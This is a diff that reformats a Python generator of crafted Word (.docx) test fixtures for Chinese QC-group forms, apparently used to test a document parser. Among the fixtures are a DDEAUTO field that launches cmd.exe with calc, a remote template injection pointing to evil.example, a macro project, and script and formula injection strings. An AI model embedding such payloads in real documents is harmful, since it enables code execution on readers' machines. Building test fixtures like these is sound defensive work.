@@ -86,6 +86,10 @@ def docx(
     return out.getvalue()
 
 
+def part(name: str, content: str) -> bytes:
+    return f"{HEAD}<w:{name} {NS}>{content}</w:{name}>".encode()
+
+
 def relationship(kind: str, target: str, external: bool = False) -> str:
     mode = ' TargetMode="External"' if external else ""
     return f'<Relationship Id="rId9" Type="{REL}/{kind}" Target="{target}"{mode}/>'
@@ -97,7 +101,9 @@ OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 
 
 def with_macros() -> bytes:
-    return docx(FORM, parts={"word/vbaProject.bin": OLE + bytes(600)}, rels=relationship("vbaProject", "vbaProject.bin"))
+    return docx(
+        FORM, parts={"word/vbaProject.bin": OLE + bytes(600)}, rels=relationship("vbaProject", "vbaProject.bin")
+    )
 
 
 def macro_type() -> bytes:
@@ -105,7 +111,7 @@ def macro_type() -> bytes:
 
 
 def remote_template() -> bytes:
-    settings = f"{HEAD}<w:settings {NS}><w:attachedTemplate r:id=\"rId9\"/></w:settings>".encode()
+    settings = f'{HEAD}<w:settings {NS}><w:attachedTemplate r:id="rId9"/></w:settings>'.encode()
     rels = (
         f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         f"{relationship('attachedTemplate', 'http://evil.example/t.dotm', True)}</Relationships>"
@@ -184,10 +190,8 @@ def tracked() -> bytes:
     ins = '<w:ins w:id="1" w:author="甲" w:date="2026-01-01T00:00:00Z">'
     gone = '<w:del w:id="2" w:author="甲"><w:r><w:delText>旧名</w:delText></w:r></w:del>'
     name = tr(tc(p(t("小组名称"))), tc(p(t("红柳"), gone, ins, t("QC小组"), "</w:ins>")))
-    removed = "<w:tr><w:trPr><w:del w:id=\"3\"/></w:trPr>" + tc(p(t("组长姓名"))) + tc(p(t("不在了"))) + "</w:tr>"
-    joined = tc(
-        p(t("降低"), props='<w:pPr><w:rPr><w:del w:id="4"/></w:rPr></w:pPr>'), p(t("能耗"))
-    )
+    removed = '<w:tr><w:trPr><w:del w:id="3"/></w:trPr>' + tc(p(t("组长姓名"))) + tc(p(t("不在了"))) + "</w:tr>"
+    joined = tc(p(t("降低"), props='<w:pPr><w:rPr><w:del w:id="4"/></w:rPr></w:pPr>'), p(t("能耗")))
     return docx(p(t(TITLE)) + tbl(name, removed, tr(tc(p(t("课题名称"))), joined)))
 
 
@@ -198,13 +202,16 @@ def nested_tables() -> bytes:
 
 def notes_and_fields() -> bytes:
     field_ = (
-        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r>'
-        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + t("红柳QC小组") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        + t("红柳QC小组")
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
     )
     foot = '<w:r><w:footnoteReference w:id="2"/></w:r><w:r><w:commentReference w:id="0"/></w:r>'
     parts = {
-        "word/footnotes.xml": f"{HEAD}<w:footnotes {NS}><w:footnote w:id=\"2\">{p(t('脚注里的话'))}</w:footnote></w:footnotes>".encode(),
-        "word/comments.xml": f"{HEAD}<w:comments {NS}><w:comment w:id=\"0\">{p(t('批注里的话'))}</w:comment></w:comments>".encode(),
+        "word/footnotes.xml": part("footnotes", f'<w:footnote w:id="2">{p(t("脚注里的话"))}</w:footnote>'),
+        "word/comments.xml": part("comments", f'<w:comment w:id="0">{p(t("批注里的话"))}</w:comment>'),
     }
     name = tr(tc(p(t("小组名称"))), tc(p(field_, foot)))
     return docx(p(t(TITLE)) + tbl(name, row("课题名称", "降低能耗")), parts=parts)
@@ -213,7 +220,8 @@ def notes_and_fields() -> bytes:
 def text_box() -> bytes:
     box = f"<w:txbxContent>{p(t('小组名称：红柳QC小组'))}</w:txbxContent>"
     drawn = (
-        f"<w:r><mc:AlternateContent><mc:Choice Requires=\"wps\"><w:drawing><wps:txbx>{box}</wps:txbx></w:drawing></mc:Choice>"
+        f'<w:r><mc:AlternateContent><mc:Choice Requires="wps">'
+        f'<w:drawing><wps:txbx>{box}</wps:txbx></w:drawing></mc:Choice>'
         f"<mc:Fallback><w:pict>{box}</w:pict></mc:Fallback></mc:AlternateContent></w:r>"
     )
     return docx(p(t(TITLE)) + p(drawn) + tbl(row("课题名称", "降低能耗")))
@@ -247,11 +255,15 @@ def alt_chunk() -> bytes:
 
 def hidden_text() -> bytes:
     hidden = t("藏起来的话", "<w:rPr><w:vanish/></w:rPr>")
-    return docx(p(t(TITLE)) + tbl(tr(tc(p(t("小组名称"))), tc(p(t("红柳QC小组"), hidden))), row("课题名称", "降低能耗")))
+    return docx(
+        p(t(TITLE)) + tbl(tr(tc(p(t("小组名称"))), tc(p(t("红柳QC小组"), hidden))), row("课题名称", "降低能耗"))
+    )
 
 
 def markup() -> bytes:
-    return docx(p(t(TITLE)) + tbl(row("小组名称", "<script>alert(1)</script>"), row("课题名称", '=HYPERLINK("http://x")')))
+    return docx(
+        p(t(TITLE)) + tbl(row("小组名称", "<script>alert(1)</script>"), row("课题名称", '=HYPERLINK("http://x")'))
+    )
 
 
 def leftover() -> bytes:
